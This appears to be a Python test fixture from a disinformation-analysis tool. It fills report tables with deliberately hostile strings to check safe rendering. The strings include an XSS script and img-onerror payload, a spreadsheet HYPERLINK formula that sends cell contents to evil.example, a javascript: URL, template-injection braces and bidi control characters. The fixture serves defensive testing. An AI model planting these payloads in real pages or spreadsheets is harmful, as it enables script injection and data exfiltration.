"""What was read in hostile posts: claims, narratives, targets, voids: a row of each by hand."""

from dataclasses import replace
from datetime import UTC, datetime, timedelta
from typing import Any

import numpy as np
import pyarrow as pa

from tocsin.chain.circulating import CIRCULATING
from tocsin.chain.claims import TEXT_MATCHES, Claims
from tocsin.chain.investigation import Investigation
from tocsin.chain.quoted import CITED, QUOTED
from tocsin.chain.reading import Reading
from tocsin.chain.sightings import SIGHTED, SIGHTINGS
from tocsin.chain.texts import TEXTS, Texts
from tocsin.detect.narratives import tables as told
from tocsin.detect.targets import tables as aimed
from tocsin.detect.voids import tables as asked
from tocsin.detect.worthiness.tables import WORTHY, Worthy
from tocsin.finding import Finding

START = datetime(2024, 3, 4, 7, 30, tzinfo=UTC)
SCRIPT = "<script>window.ran = true</script><img src=x onerror='window.ran = true'>"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
HOSTILE_TEXTS = [
    SCRIPT,
    FORMULA,
    "الجسر الجديد مغلق حتى إشعار آخر https://news.example/bridge",
    "הגשר סגור \u202eesrever\u202c עד להודעה חדשה",
    "W" * 400,
    "nul\x00inside\x07 and </script><!-- and </textarea> and {{ 7*7 }}",
    "javascript:alert(1)",
    "Line one\nline two\n\nline four",
]
POSTS = list(range(100, 100 + len(HOSTILE_TEXTS)))
"""Keys of the posts: one a text, in the order of the texts."""
LATER = START + timedelta(days=2)


def filled(schema: pa.Schema, *rows: dict[str, Any]) -> pa.Table:
    """Rows of a schema; what is not stated is a plausible number, an empty list, or null."""
    return pa.Table.from_pylist(
        [{field.name: row.get(field.name, _usual(field.type)) for field in schema} for row in rows],
        schema=schema,
    )


def _usual(kind: pa.DataType) -> Any:
    if pa.types.is_list(kind):
        return []
    if pa.types.is_integer(kind):
        return 1
    if pa.types.is_floating(kind):
        return 0.5
    return START if pa.types.is_timestamp(kind) else None


def texts() -> Texts:
    rows = [
        {"text_id": n, "text": text, "lang": "en", "first_post": post, "posts": 3, "accounts": 2}
        for n, (text, post) in enumerate(zip(HOSTILE_TEXTS, POSTS, strict=True))
    ]
    vectors = np.zeros((len(rows), 4), dtype=np.float32)
    return Texts(filled(TEXTS, *rows), vectors, "words/1", 40, 90, 36)


def claims() -> Claims:
    said = {"factcheck_key": 7, "factcheck_id": "f7", "claim": SCRIPT, "publisher": FORMULA,
            "verdict": "false", "verdict_as_stated": SCRIPT, "url": "javascript:alert(1)",
            "posts": 6, "accounts": 4, "texts": 2, "probability": 0.8}  # fmt: skip
    match = {"factcheck_key": 7, "tier": "suggested", "by": "text", "stance": "deny",
             "spreads": "no", "reasons": [SCRIPT], "flags": ["negation_differs"]}  # fmt: skip
    matches = [
        match | {"text_id": 0, "match": 77, "probability": 0.8},
        match | {"text_id": 1, "match": 78, "probability": None, "by": "url", "tier": "confirmed"},
        match | {"text_id": 2, "match": 79, "probability": 0.6, "tier": "rejected"},
    ]
    posts = pa.table({"text_id": [0, 1], "post_key": POSTS[:2]})
    return Claims(
        circulating=filled(CIRCULATING, said),
        matches=filled(TEXT_MATCHES, *matches),
        posts=posts,
        sighted=filled(
            SIGHTED,
            {"object": "javascript:alert(1)", "factcheck_key": 7, "by": "url", "tier": "suggested",
             "links_factcheck": False},
        ),
        sightings=filled(SIGHTINGS, {"object": "javascript:alert(1)", "post_key": POSTS[6]}),
        factchecks=12,
        checks=pa.table({"factcheck_key": [7]}),
        sites=pa.array([], pa.string()),
    )  # fmt: skip


def worthy() -> Worthy:
    row = {"claim_id": 3, "claim": HOSTILE_TEXTS[5], "texts": [3, 4], "areas": ["health"],
           "reasons": [SCRIPT], "measured": "not measured", "above_threshold": True}  # fmt: skip
    return Worthy(filled(WORTHY, row), ("It is a reading list.",))


def narratives() -> told.Narratives:
    row = {"narrative": -5, "theme": 9, "label": SCRIPT, "sample": HOSTILE_TEXTS[2], "texts": 3,
           "posts": 9, "accounts": 8, "platforms": ["x"], "languages": ["ar", "en"],
           "first_post": POSTS[2], "last_at": LATER, "growth": None, "growth_low": 12.5,
           "growth_high": None, "growth_q": 0.01, "is_held": False}  # fmt: skip
    finding = Finding("narratives", 1, {}, f"narrative {SCRIPT}", FORMULA, {"posts": 9.0},
                      (POSTS[2], POSTS[3], 12_345), START)  # fmt: skip
    return told.Narratives(
        narratives=filled(told.NARRATIVES, row),
        texts=filled(told.TEXTS, {"text_id": 2, "narrative": -5}),
        members=filled(told.MEMBERS, *({"post_key": k, "narrative": -5} for k in POSTS[2:5])),
        terms=filled(told.TERMS, {"narrative": -5, "language": "und", "place": 1, "term": SCRIPT}),
        timeline=filled(
            told.TIMELINE, *({"narrative": -5, "bucket": b, "posts": b} for b in (1, 3, 9))
        ),
        bursts=filled(told.BURSTS, {"narrative": -5, "accounts": 9.0, "expected": 1.2}),
        involved=filled(
            told.INVOLVED,
            {"narrative": -5, "kind": "network", "id": 0},
            {"narrative": -5, "kind": "claim", "id": 7},
        ),
        history=filled(told.HISTORY, {"event": "born", "narrative": -5, "other": None}),
        findings=(finding,),
        unplaced=4,
        recall=0.97,
        caveats=("A model put these texts together.",),
    )


def targets() -> aimed.Targets:
    named = {"target": "who", "name": SCRIPT, "kind": "organisation", "posts": 9, "read_posts": 8,
             "attacking_posts": 2, "attacking_accounts": 2, "networks": [0]}  # fmt: skip
    attack = {"post_key": POSTS[4], "target": "who", "frame": "corrupt", "stance": "asserted",
              "words": SCRIPT, "start": 0, "end": 5, "lang": "en"}  # fmt: skip
    return aimed.Targets(
        targets=filled(aimed.TARGETS, named),
        mentions=filled(aimed.MENTIONS, {"post_key": POSTS[4], "target": "who"}),
        attacks=filled(aimed.ATTACKS, attack),
        set_aside=filled(aimed.ATTACKS, attack | {"stance": "negated", "post_key": POSTS[5]}),
        frames=filled(aimed.FRAMES, {"target": "who", "frame": "corrupt", "example": POSTS[4]}),
        by_network=filled(aimed.BY_NETWORK, {"target": "who", "frame": "corrupt"}),
        findings=(),
        caveats=("Words are lists.",),
    )


def voids() -> asked.Voids:
    cell = {"topic": "t", "name": SCRIPT, "lang": "en", "state": "alarm", "demand": 12.0}
    window = {"topic": "t", "lang": "en", "place": None}
    return asked.Voids(
        windows=filled(
            asked.WINDOWS,
            *(window | {"window_start": START + timedelta(days=d), "demand": float(d),
                        "supply": 1.0} for d in range(9)),
        ),
        episodes=filled(asked.EPISODES, window | {"end": LATER, "ongoing": True}),
        ranked=filled(asked.RANKED, cell | {"rank": 1, "first_answer": None}),
        members=filled(
            asked.MEMBERS,
            {"rank": 1, "post_key": POSTS[0], "role": "asked"},
            {"rank": 1, "post_key": POSTS[1], "role": "first answer", "answer": SCRIPT},
        ),
        findings=(),
        caveats=("Attention is to a topic.",),
    )  # fmt: skip


def read(investigation: Investigation) -> Investigation:
    """The investigation as if its posts had been read."""
    rows = [
        {"post_key": key, "platform": "x", "post_id": f"p{key}", "account_id": f"a{key}",
         "source_file": "exports/x.jsonl", "source_line": number, "text": text}
        for number, (key, text) in enumerate(zip(POSTS, HOSTILE_TEXTS, strict=True), 1)
    ]  # fmt: skip
    shares = None  # not looked at by the report
    reading = Reading(texts(), shares, claims(), worthy(), None)
    return replace(
        investigation,
        reading=reading,
        narratives=narratives(),
        targets=targets(),
        voids=voids(),
        quoted=filled(QUOTED, *rows),
        cited=filled(CITED, *rows),
    )
